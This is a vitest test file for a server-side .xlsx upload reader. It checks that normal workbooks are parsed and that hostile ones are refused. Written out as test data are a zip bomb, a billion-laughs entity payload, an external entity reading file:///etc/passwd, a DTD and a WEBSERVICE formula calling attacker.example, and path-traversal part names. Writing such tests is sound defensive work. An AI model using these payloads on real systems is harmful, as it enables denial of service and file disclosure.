import { randomBytes } from 'node:crypto';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  excelSerialText,
  isDateFormatCode,
  readWorkbookRows,
  type SheetRow,
  UploadFileRejected,
} from '../../server/bulk/xlsxReader';
import { BULK_MAX_ROWS, BULK_MESSAGES } from '../../src/domain/bulkKinds';
import { MAX_UPLOAD_BYTES } from '../../src/domain/uploadFile';
import { libreOfficeWorkbook } from './helpers/libreOffice';
import {
  type DeflatedContent,
  deflateStreaming,
  readZip,
  repeated,
  replaceEntries,
  writeZip,
  type ZipWriterEntry,
} from './helpers/zipWriter';

const MIB = 1024 * 1024;

const MESSAGES = {
  wrongType: "File type isn't supported.",
  tooLarge: "File size can't exceed 10 MB",
  unreadable: 'The file could not be read as an Excel workbook',
  entities: 'The file contains XML entity declarations, which are not accepted',
  partTooLarge: 'A part of the file expands to more than 100 MB; it is not a normal spreadsheet',
  totalTooLarge: 'The file expands to more than 200 MB; it is not a normal spreadsheet',
  ratio: 'A part of the file is compressed more than 200 to 1; it is not a normal spreadsheet',
  sizeLie: 'A part of the file expands to more than the size it states; it is not a normal spreadsheet',
  tooManyParts: 'The file has more than 1,000 parts; it is not a normal spreadsheet',
  unsafeName: 'The file has a part named outside the workbook; it is not accepted',
  zip64: 'The file is a ZIP64 archive, which an Excel workbook of this size never is; it is not accepted',
};

async function readRows(bytes: Buffer, maxRows = 1000): Promise<SheetRow[]> {
  const rows: SheetRow[] = [];
  for await (const row of readWorkbookRows(bytes, { maxRows })) rows.push(row);
  return rows;
}

async function refusal(bytes: Buffer, maxRows = 1000): Promise<{ statusCode: number; message: string }> {
  try {
    await readRows(bytes, maxRows);
  } catch (error) {
    if (error instanceof UploadFileRejected) return { statusCode: error.statusCode, message: error.message };
    throw error;
  }
  throw new Error('The file was read without a refusal');
}

async function exceljsFile(build: (workbook: ExcelJS.Workbook) => void): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  build(workbook);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

/** The peak growth of the process's resident memory while `work` runs, in MB. */
async function rssGrowthMb(work: (sample: () => void) => Promise<void>): Promise<number> {
  (globalThis as { gc?: () => void }).gc?.();
  const before = process.memoryUsage().rss;
  let peak = before;
  const sample = () => {
    peak = Math.max(peak, process.memoryUsage().rss);
  };
  const timer = setInterval(sample, 5);
  try {
    await work(sample);
  } finally {
    clearInterval(timer);
    sample();
  }
  return (peak - before) / MIB;
}

// ---------------------------------------------------------------------------------------------
// Hand-written workbooks: the parts a spreadsheet needs, around a sheet given as XML.

const MAIN_NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const REL_NS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const SHEET_HEAD = `${XML_DECLARATION}<worksheet xmlns="${MAIN_NS}" xmlns:r="${REL_NS}"><sheetData>`;
const SHEET_TAIL = '</sheetData></worksheet>';

function packageParts(
  sheet: Buffer | DeflatedContent,
  sharedStrings?: Buffer | DeflatedContent,
): ZipWriterEntry[] {
  const part = (name: string, content: Buffer | DeflatedContent): ZipWriterEntry =>
    Buffer.isBuffer(content) ? { name, data: content } : { name, deflated: content };
  return [
    {
      name: '[Content_Types].xml',
      data: Buffer.from(
        `${XML_DECLARATION}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
          '<Default Extension="xml" ContentType="application/xml"/></Types>',
      ),
    },
    {
      name: 'xl/workbook.xml',
      data: Buffer.from(
        `${XML_DECLARATION}<workbook xmlns="${MAIN_NS}" xmlns:r="${REL_NS}"><sheets>` +
          '<sheet name="Workers" sheetId="1" r:id="rId1"/></sheets></workbook>',
      ),
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      data: Buffer.from(
        `${XML_DECLARATION}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
          `<Relationship Id="rId1" Type="${REL_NS}/worksheet" Target="worksheets/sheet1.xml"/>` +
          `<Relationship Id="rId2" Type="${REL_NS}/styles" Target="styles.xml"/>` +
          `<Relationship Id="rId3" Type="${REL_NS}/sharedStrings" Target="/xl/sharedStrings.xml"/>` +
          '</Relationships>',
      ),
    },
    {
      name: 'xl/styles.xml',
      data: Buffer.from(
        `${XML_DECLARATION}<styleSheet xmlns="${MAIN_NS}"><cellXfs count="2">` +
          '<xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/></cellXfs></styleSheet>',
      ),
    },
    part('xl/worksheets/sheet1.xml', sheet),
    ...(sharedStrings === undefined ? [] : [part('xl/sharedStrings.xml', sharedStrings)]),
  ];
}

const handWrittenWorkbook = (sheetData: string) =>
  writeZip(packageParts(Buffer.from(`${SHEET_HEAD}${sheetData}${SHEET_TAIL}`)));

/**
 * A workbook of a header and `dataRows` rows, as Excel lays them out: names in shared strings,
 * numbers, dates (style 1: numFmtId 14) and inline strings. Deflated as it is generated.
 */
async function largeWorkbook(dataRows: number): Promise<Buffer> {
  function* sharedStrings(): Generator<Buffer> {
    yield Buffer.from(
      `${XML_DECLARATION}<sst xmlns="${MAIN_NS}"><si><t>Name</t></si><si><t>Contact number</t></si>`,
    );
    let block = '<si><t>Day</t></si><si><t>Worker tag id</t></si>';
    for (let index = 1; index <= dataRows; index++) {
      block += `<si><t>Worker ${index}</t></si>`;
      if (block.length > 64 * 1024) {
        yield Buffer.from(block);
        block = '';
      }
    }
    yield Buffer.from(`${block}</sst>`);
  }
  function* sheet(): Generator<Buffer> {
    let block =
      `${SHEET_HEAD}<row r="1" spans="1:4"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c>` +
      '<c r="C1" t="s"><v>2</v></c><c r="D1" t="s"><v>3</v></c></row>';
    for (let index = 1; index <= dataRows; index++) {
      const row = index + 1;
      block +=
        `<row r="${row}" spans="1:4"><c r="A${row}" t="s"><v>${index + 3}</v></c>` +
        `<c r="B${row}"><v>${971_500_000_000 + index}</v></c><c r="C${row}" s="1"><v>${46_023 + (index % 365)}</v></c>` +
        `<c r="D${row}" t="inlineStr"><is><t>W-${index}</t></is></c></row>`;
      if (block.length > 64 * 1024) {
        yield Buffer.from(block);
        block = '';
      }
    }
    yield Buffer.from(`${block}${SHEET_TAIL}`);
  }
  return writeZip(packageParts(await deflateStreaming(sheet()), await deflateStreaming(sharedStrings())));
}

// ---------------------------------------------------------------------------------------------

describe('reading an uploaded .xlsx', () => {
  describe('normal files', () => {
    it('reads an exceljs file: text, numbers, dates, times, booleans, cached formula values', async () => {
      const bytes = await exceljsFile((workbook) => {
        const sheet = workbook.addWorksheet('Workers');
        sheet.addRow(['Name', 'Count', 'Day', 'Check in', 'Arrived at', 'Doubled', 'Present', 'Note']);
        sheet.addRow([
          'Amina Yusuf',
          3,
          new Date(Date.UTC(2026, 11, 1)),
          new Date(Date.UTC(1899, 11, 30, 7, 30)),
          new Date(Date.UTC(2026, 0, 2, 16, 45)),
          // Cached as 4 while B2*2 is 6: the reader takes the stored value and evaluates nothing.
          { formula: 'B2*2', result: 4 },
          true,
          '  spaced  ',
        ]);
        sheet.getCell('D2').numFmt = 'hh:mm';
        sheet.getCell('E2').numFmt = 'yyyy-mm-dd hh:mm';
        sheet.addRow([]);
        sheet.getCell('A4').value = 'Bilal';
        sheet.getCell('C4').value = new Date(Date.UTC(2026, 1, 28));
        sheet.getCell('G4').value = false;
        sheet.getCell('A5').value = {
          richText: [{ text: 'Core ' }, { text: 'works', font: { bold: true } }],
        };
        sheet.getCell('B5').value = 12.5;
        sheet.getCell('B5').numFmt = '[Red]0.00';
        sheet.getCell('C5').value = 0.1 + 0.2;
        sheet.getCell('D5').value = { formula: 'NOW()' } as ExcelJS.CellFormulaValue;
        sheet.getCell('E5').value = { error: '#DIV/0!' };
        sheet.getCell('F5').value = { formula: 'WEBSERVICE("http://attacker.example/")', result: 'cached' };
        workbook.addWorksheet('Second').addRow(['Not', 'read']);
      });

      expect(await readRows(bytes)).toEqual([
        {
          rowNumber: 1,
          cells: ['Name', 'Count', 'Day', 'Check in', 'Arrived at', 'Doubled', 'Present', 'Note'],
        },
        {
          rowNumber: 2,
          cells: ['Amina Yusuf', '3', '2026-12-01', '07:30', '2026-01-02 16:45', '4', 'TRUE', '  spaced  '],
        },
        { rowNumber: 4, cells: ['Bilal', '', '2026-02-28', '', '', '', 'FALSE'] },
        { rowNumber: 5, cells: ['Core works', '12.5', '0.30000000000000004', '', '#DIV/0!', 'cached'] },
      ]);
    });

    it('honours a workbook on the 1904 date system', async () => {
      const bytes = await exceljsFile((workbook) => {
        workbook.properties.date1904 = true;
        const sheet = workbook.addWorksheet('Days');
        sheet.addRow(['Day']);
        sheet.addRow([new Date(Date.UTC(2026, 11, 1))]);
      });
      expect(
        readZip(bytes)
          .find((entry) => entry.name === 'xl/workbook.xml')
          ?.data.toString(),
      ).toContain('date1904="1"');
      expect(await readRows(bytes)).toEqual([
        { rowNumber: 1, cells: ['Day'] },
        { rowNumber: 2, cells: ['2026-12-01'] },
      ]);
    });

    it('reads the same rows when the parts are stored rather than deflated', async () => {
      const bytes = await exceljsFile((workbook) => {
        const sheet = workbook.addWorksheet('Workers');
        sheet.addRow(['Name', 'Worker tag id']);
        sheet.addRow(['Amina Yusuf', 'W-0001']);
      });
      const stored = writeZip(readZip(bytes).map((entry) => ({ ...entry, stored: true })));
      expect(await readRows(stored)).toEqual(await readRows(bytes));
      expect(await readRows(stored)).toEqual([
        { rowNumber: 1, cells: ['Name', 'Worker tag id'] },
        { rowNumber: 2, cells: ['Amina Yusuf', 'W-0001'] },
      ]);
    });

    it('reads a file LibreOffice wrote from a CSV', { timeout: 90_000 }, async () => {
      const bytes = await libreOfficeWorkbook(
        'Name,Count,Day,Check in,Note,Total\nAmina Yusuf,42,2026-12-01,07:30, spaced ,=2*21\nBilal,8.5,,16:00,x,\n',
        'workers',
      );
      expect(await readRows(bytes)).toEqual([
        { rowNumber: 1, cells: ['Name', 'Count', 'Day', 'Check in', 'Note', 'Total'] },
        { rowNumber: 2, cells: ['Amina Yusuf', '42', '2026-12-01', '07:30', ' spaced ', '42'] },
        { rowNumber: 3, cells: ['Bilal', '8.5', '', '16:00', 'x'] },
      ]);
    });

    it('reads a formula as its cached value, and one without a cached value as empty text', async () => {
      const bytes = handWrittenWorkbook(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>Hours</t></is></c></row>' +
          '<row r="2"><c r="A2"><f>1+1</f></c><c r="B2"><f>SUM(A1:A9)</f><v>7.25</v></c>' +
          '<c r="C2" t="str"><f>CONCAT("a","b")</f><v>ab</v></c></row>',
      );
      expect(await readRows(bytes)).toEqual([
        { rowNumber: 1, cells: ['Hours'] },
        { rowNumber: 2, cells: ['', '7.25', 'ab'] },
      ]);
    });

    it('reads namespace-prefixed elements, escaped characters and CDATA', async () => {
      const sheet =
        `${XML_DECLARATION}<x:worksheet xmlns:x="${MAIN_NS}"><x:sheetData>` +
        '<x:row r="1"><x:c r="A1" t="inlineStr"><x:is><x:t>Line 1_x000D_&#10;Line 2</x:t></x:is></x:c>' +
        '<x:c r="C1" t="inlineStr"><x:is><x:t><![CDATA[<b> & co]]></x:t></x:is></x:c></x:row>' +
        '</x:sheetData></x:worksheet>';
      expect(await readRows(writeZip(packageParts(Buffer.from(sheet))))).toEqual([
        { rowNumber: 1, cells: ['Line 1\r\nLine 2', '', '<b> & co'] },
      ]);
    });

    it('tells date formats from other number formats', () => {
      expect(isDateFormatCode('yyyy\\-mm\\-dd')).toBe(true);
      expect(isDateFormatCode('[$-409]mmmm d, yyyy')).toBe(true);
      expect(isDateFormatCode('[h]:mm')).toBe(true);
      expect(isDateFormatCode('[Red]0.00')).toBe(false);
      expect(isDateFormatCode('0 "days"')).toBe(false);
      expect(isDateFormatCode('#,##0.00 [$€-407]')).toBe(false);
      expect(isDateFormatCode('General')).toBe(false);
    });

    it('turns Excel serials into dates and times, with the 1900 leap-year bug', () => {
      expect(excelSerialText(1, false)).toBe('1900-01-01');
      expect(excelSerialText(59, false)).toBe('1900-02-28');
      expect(excelSerialText(61, false)).toBe('1900-03-01');
      expect(excelSerialText(46_357, false)).toBe('2026-12-01');
      expect(excelSerialText(46_357.75, false)).toBe('2026-12-01 18:00');
      expect(excelSerialText(0.291_666_666_666_666_7, false)).toBe('07:00');
      expect(excelSerialText(44_895, true)).toBe('2026-12-01');
      expect(excelSerialText(-1, false)).toBeNull();
    });
  });

  describe('files that are not an .xlsx', () => {
    it('refuses a file above 10 MB with 413', async () => {
      const bytes = Buffer.concat([
        Buffer.from([0x50, 0x4b, 0x03, 0x04]),
        Buffer.alloc(MAX_UPLOAD_BYTES - 3),
      ]);
      expect(bytes.length).toBe(MAX_UPLOAD_BYTES + 1);
      expect(await refusal(bytes)).toEqual({ statusCode: 413, message: MESSAGES.tooLarge });
    });

    it('refuses a renamed .csv, an .xls (OLE2) and a truncated zip with 415', async () => {
      const csv = Buffer.from('Name,Worker tag id\nAmina Yusuf,W-0001\n');
      const xls = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4096)]);
      const xlsx = await exceljsFile((workbook) => workbook.addWorksheet('A').addRow(['x']));
      for (const bytes of [csv, xls, xlsx.subarray(0, xlsx.length - 30), Buffer.alloc(0)]) {
        expect(await refusal(bytes)).toEqual({ statusCode: 415, message: MESSAGES.wrongType });
      }
    });

    it('refuses a zip that is not a workbook with 415', async () => {
      const notes = writeZip([{ name: 'notes.txt', data: Buffer.from('hello') }]);
      const noContentTypes = writeZip(
        packageParts(Buffer.from(`${SHEET_HEAD}${SHEET_TAIL}`)).filter(
          (entry) => entry.name !== '[Content_Types].xml',
        ),
      );
      expect(await refusal(notes)).toEqual({ statusCode: 415, message: MESSAGES.wrongType });
      expect(await refusal(noContentTypes)).toEqual({ statusCode: 415, message: MESSAGES.wrongType });
    });
  });

  describe('hostile files', () => {
    /** About a gigabyte of sheet XML (empty rows), deflated as it is generated: about 4.6 MB. */
    let gigabyteSheet: DeflatedContent;
    beforeAll(async () => {
      gigabyteSheet = await deflateStreaming(
        repeated(SHEET_HEAD, '<row r="1" spans="1:5"/>', 1024 * MIB, SHEET_TAIL),
      );
    }, 60_000);

    it('refuses a zip bomb whose directory states its gigabyte, before inflating it', async () => {
      expect(gigabyteSheet.size).toBeGreaterThan(1024 * MIB);
      expect(gigabyteSheet.bytes.length).toBeLessThan(MAX_UPLOAD_BYTES);
      const bytes = writeZip(packageParts(gigabyteSheet));
      let result: Awaited<ReturnType<typeof refusal>> | undefined;
      const growth = await rssGrowthMb(async () => {
        result = await refusal(bytes);
      });
      console.info(`stated zip bomb: rss grew ${growth.toFixed(1)} MB`);
      expect(result).toEqual({ statusCode: 422, message: MESSAGES.partTooLarge });
      expect(growth).toBeLessThan(100);
    });

    it('stops a zip bomb whose directory understates it at the stated size, memory flat', {
      timeout: 60_000,
    }, async () => {
      const parts = packageParts(gigabyteSheet).map((entry) =>
        entry.name === 'xl/worksheets/sheet1.xml' ? { ...entry, declaredSize: 100 * MIB } : entry,
      );
      const bytes = writeZip(parts);
      let result: Awaited<ReturnType<typeof refusal>> | undefined;
      const growth = await rssGrowthMb(async () => {
        result = await refusal(bytes);
      });
      console.info(`understated zip bomb: rss grew ${growth.toFixed(1)} MB while 100 MB were inflated`);
      expect(result).toEqual({ statusCode: 422, message: MESSAGES.sizeLie });
      expect(growth).toBeLessThan(100);
    });

    it('refuses an entry compressed more than 200 to 1', async () => {
      const zeros = await deflateStreaming(repeated('', '\0', 50 * MIB, ''), 9);
      const bytes = writeZip([
        ...packageParts(Buffer.from(`${SHEET_HEAD}${SHEET_TAIL}`)),
        { name: 'xl/media/zeros.bin', deflated: zeros },
      ]);
      expect(await refusal(bytes)).toEqual({ statusCode: 422, message: MESSAGES.ratio });
    });

    it('refuses parts that together state more than 200 MB', async () => {
      // Never inflated: the directory's figures alone are refused.
      const filler = (index: number): ZipWriterEntry => ({
        name: `xl/media/image${index}.png`,
        deflated: { bytes: randomBytes(MIB), size: 90 * MIB, crc32: 0 },
      });
      const bytes = writeZip([
        ...packageParts(Buffer.from(`${SHEET_HEAD}${SHEET_TAIL}`)),
        filler(1),
        filler(2),
        filler(3),
      ]);
      expect(await refusal(bytes)).toEqual({ statusCode: 422, message: MESSAGES.totalTooLarge });
    });

    it('refuses more than 1,000 parts', async () => {
      const many = Array.from({ length: 1000 }, (_, index) => ({
        name: `xl/media/${index}.txt`,
        data: Buffer.from('x'),
      }));
      const bytes = writeZip([...packageParts(Buffer.from(`${SHEET_HEAD}${SHEET_TAIL}`)), ...many]);
      expect(await refusal(bytes)).toEqual({ statusCode: 422, message: MESSAGES.tooManyParts });
    });

    it.each([
      ['../../etc/cron.d/sitewatch'],
      ['/etc/passwd'],
      ['xl/../../outside.xml'],
      ['C:\\Windows\\evil.xml'],
    ])('refuses a part named %s', async (name) => {
      const bytes = writeZip([
        ...packageParts(Buffer.from(`${SHEET_HEAD}${SHEET_TAIL}`)),
        { name, data: Buffer.from('x') },
      ]);
      expect(await refusal(bytes)).toEqual({ statusCode: 422, message: MESSAGES.unsafeName });
    });

    it('refuses a ZIP64 archive', async () => {
      const plain = writeZip(packageParts(Buffer.from(`${SHEET_HEAD}${SHEET_TAIL}`)));
      const locator = Buffer.alloc(20);
      locator.writeUInt32LE(0x07064b50, 0);
      const withLocator = Buffer.concat([plain.subarray(0, plain.length - 22), locator, plain.subarray(-22)]);
      const saturated = writeZip([
        ...packageParts(Buffer.from(`${SHEET_HEAD}${SHEET_TAIL}`)),
        { name: 'xl/media/big.bin', data: Buffer.from('x'), declaredSize: 0xffffffff },
      ]);
      expect(await refusal(withLocator)).toEqual({ statusCode: 422, message: MESSAGES.zip64 });
      expect(await refusal(saturated)).toEqual({ statusCode: 422, message: MESSAGES.zip64 });
    });

    it('refuses a corrupt deflate stream', async () => {
      const bytes = writeZip(
        packageParts({ bytes: Buffer.from('not deflate data at all, just text'), size: 500, crc32: 0 }),
      );
      expect(await refusal(bytes)).toEqual({ statusCode: 422, message: MESSAGES.unreadable });
    });

    describe('XML entity declarations', () => {
      let exceljsBytes: Buffer;
      beforeAll(async () => {
        exceljsBytes = await exceljsFile((workbook) => {
          const sheet = workbook.addWorksheet('Workers');
          sheet.addRow(['Name']);
          sheet.addRow(['Amina Yusuf']);
        });
      });

      const laughs = Array.from(
        { length: 9 },
        (_, level) => `<!ENTITY lol${level + 1} "${`&lol${level};`.repeat(10)}">`,
      ).join('');
      const billionLaughs =
        `${XML_DECLARATION}<!DOCTYPE lolz [<!ENTITY lol0 "lol">${laughs}]>` +
        `<worksheet xmlns="${MAIN_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>` +
        '</sheetData></worksheet>';

      it('refuses a billion laughs in the sheet', async () => {
        const bytes = replaceEntries(exceljsBytes, { 'xl/worksheets/sheet1.xml': billionLaughs });
        expect(await refusal(bytes)).toEqual({ statusCode: 422, message: MESSAGES.entities });
      });

      it('refuses an external entity in the shared strings and a DOCTYPE in a part it does not read', async () => {
        const external =
          `${XML_DECLARATION}<!DOCTYPE sst [<!ENTITY secret SYSTEM "file:///etc/passwd">]>` +
          `<sst xmlns="${MAIN_NS}"><si><t>&secret;</t></si></sst>`;
        const inSharedStrings = replaceEntries(exceljsBytes, { 'xl/sharedStrings.xml': external });
        const inProperties = replaceEntries(exceljsBytes, {
          'docProps/core.xml': `${XML_DECLARATION}<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><x/>`,
        });
        expect(await refusal(inSharedStrings)).toEqual({ statusCode: 422, message: MESSAGES.entities });
        expect(await refusal(inProperties)).toEqual({ statusCode: 422, message: MESSAGES.entities });
      });

      it('refuses a reference to an entity that was never declared', async () => {
        for (const reference of ['&lol9;', '&constructor;', '&#0;']) {
          const bytes = handWrittenWorkbook(
            `<row r="1"><c r="A1" t="inlineStr"><is><t>${reference}</t></is></c></row>`,
          );
          expect(await refusal(bytes)).toEqual({ statusCode: 422, message: MESSAGES.unreadable });
        }
      });
    });
  });

  describe('large files', () => {
    let fullFile: Buffer;
    let oneRowTooMany: Buffer;
    beforeAll(async () => {
      fullFile = await largeWorkbook(BULK_MAX_ROWS);
      oneRowTooMany = await largeWorkbook(BULK_MAX_ROWS + 1);
    }, 60_000);
    afterAll(() => {
      fullFile = Buffer.alloc(0);
      oneRowTooMany = Buffer.alloc(0);
    });

    it('reads 100,000 rows with memory flat', { timeout: 60_000 }, async () => {
      let count = 0;
      let last: SheetRow | undefined;
      const growth = await rssGrowthMb(async (sample) => {
        for await (const row of readWorkbookRows(fullFile, { maxRows: BULK_MAX_ROWS })) {
          count++;
          last = row;
          if (count % 1000 === 0) sample();
        }
      });
      console.info(
        `100,000 rows (file ${(fullFile.length / MIB).toFixed(1)} MB): rss grew ${growth.toFixed(1)} MB`,
      );
      expect(count).toBe(BULK_MAX_ROWS + 1);
      expect(last).toEqual({
        rowNumber: BULK_MAX_ROWS + 1,
        cells: [
          `Worker ${BULK_MAX_ROWS}`,
          String(971_500_000_000 + BULK_MAX_ROWS),
          '2026-12-22',
          `W-${BULK_MAX_ROWS}`,
        ],
      });
      expect(growth).toBeLessThan(150);
    });

    it('refuses row 100,001 under the header, having read no further', { timeout: 60_000 }, async () => {
      let count = 0;
      let refused: unknown;
      try {
        for await (const _ of readWorkbookRows(oneRowTooMany, { maxRows: BULK_MAX_ROWS })) count++;
      } catch (error) {
        refused = error;
      }
      expect(refused).toBeInstanceOf(UploadFileRejected);
      expect(refused).toMatchObject({ statusCode: 422, message: BULK_MESSAGES.tooManyRows });
      expect(count).toBe(BULK_MAX_ROWS + 1);
    });

    it('stops with USER_CANCELLED when the signal is aborted', async () => {
      const controller = new AbortController();
      let count = 0;
      const reading = (async () => {
        for await (const _ of readWorkbookRows(fullFile, {
          maxRows: BULK_MAX_ROWS,
          signal: controller.signal,
        })) {
          count++;
          if (count === 10) controller.abort();
        }
      })();
      await expect(reading).rejects.toThrow('USER_CANCELLED');
      expect(count).toBe(10);

      const rows = readWorkbookRows(fullFile, { maxRows: BULK_MAX_ROWS, signal: AbortSignal.abort() });
      await expect(rows.next()).rejects.toThrow('USER_CANCELLED');
    });
  });
});
